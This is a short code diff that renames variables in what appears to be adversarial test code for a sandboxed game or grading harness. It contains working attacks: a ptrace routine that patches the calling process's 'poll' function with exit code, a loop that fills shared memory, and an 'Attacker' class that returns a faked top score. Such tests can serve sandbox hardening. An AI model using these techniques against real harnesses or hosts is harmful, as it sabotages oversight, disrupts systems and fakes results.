@@ -71,9 +71,9 @@ def traces_the_caller(self):
     for process in callers()[::-1]:
         if libc.ptrace(16, process, None, None) == 0:
             os.waitpid(process, 0x40000000)
-            place = address("poll")
-            libc.ptrace(5, process, ctypes.c_void_p(place), ctypes.c_void_p(int.from_bytes(EXIT[:8], "little")))
-            libc.ptrace(5, process, ctypes.c_void_p(place + 8), ctypes.c_void_p(EXIT[8]))
+            target = address("poll")
+            libc.ptrace(5, process, ctypes.c_void_p(target), ctypes.c_void_p(int.from_bytes(EXIT[:8], "little")))
+            libc.ptrace(5, process, ctypes.c_void_p(target + 8), ctypes.c_void_p(EXIT[8]))
             libc.ptrace(17, process, None, None)
 
 
@@ -104,10 +104,10 @@ def fills_shared_memory(self):
     libc.shmat.restype = ctypes.c_void_p
     for key in range(61610000, 61610010):
         number = libc.shmget(key, 64 << 20, 0o1600)
-        place = libc.shmat(number, None, 0) if number >= 0 else None
-        if place and place != ctypes.c_void_p(-1).value:
-            ctypes.memset(place, 1, 1 << 20)
-            libc.shmdt(ctypes.c_void_p(place))
+        mapped = libc.shmat(number, None, 0) if number >= 0 else None
+        if mapped and mapped != ctypes.c_void_p(-1).value:
+            ctypes.memset(mapped, 1, 1 << 20)
+            libc.shmdt(ctypes.c_void_p(mapped))
             time.sleep(0.1)
 
 
@@ -168,9 +168,9 @@ class Attacker(SignBooster):
         self.attack = attack
 
     def update(self, column):
-        answer = super().update(column)
+        result = super().update(column)
         if len(self.steps) < 2:
-            return answer
+            return result
         with contextlib.suppress(OSError):
             ATTACKS[self.attack][0](self)
         return (Fraction(9),) * self.m
